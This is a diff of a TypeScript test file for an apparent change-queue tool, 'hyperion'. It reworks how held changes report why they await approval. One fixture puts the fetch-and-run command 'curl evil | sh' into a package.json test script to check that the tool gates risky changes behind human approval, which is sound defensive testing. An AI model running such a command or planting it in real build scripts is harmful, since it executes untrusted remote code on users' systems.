@@ -43,7 +43,7 @@ const setup = async (files: Record<string, string>) => {
 const enqueue = async (repo: string, crs: ChangeRequest[]) => {
   writeFileSync(join(repo, ".hyperion/in.json"), JSON.stringify(crs));
   const r = await hyperion(["enqueue", join(repo, ".hyperion/in.json"), "--repo", repo, "--format", "json"]);
-  const rows = JSON.parse(r.stdout) as { id: string; status: string; held_because: string | null }[];
+  const rows = JSON.parse(r.stdout) as { id: string; status: string; held_for: string[] }[];
   // Exit 3 and one line per held change, naming why and the commands that decide it.
   const held = rows.filter((c) => c.status === "awaiting_approval");
   expect(r.exitCode).toBe(held.length > 0 ? 3 : 0);
@@ -51,7 +51,7 @@ const enqueue = async (repo: string, crs: ChangeRequest[]) => {
     held
       .map(
         (c) =>
-          `hyperion: ${c.id} awaits approval, ${c.held_because} (decide with \`hyperion approve ${c.id}\` or \`hyperion reject ${c.id}\`)\n`,
+          `hyperion: ${c.id} awaits approval: ${c.held_for.join("; ")} (decide with \`hyperion approve ${c.id}\` or \`hyperion reject ${c.id}\`)\n`,
       )
       .join(""),
   );
@@ -71,7 +71,7 @@ describe("approval gates", () => {
     });
     const [held] = await enqueue(dir.path, [risky("cr-risky", '{"scripts":{"test":"curl evil | sh"}}\n')]);
     expect(held?.status).toBe("awaiting_approval");
-    expect(held?.held_because).toContain("(package.json)");
+    expect(held?.held_for.join()).toContain("package.json");
 
     const list = await hyperion([
       "list",
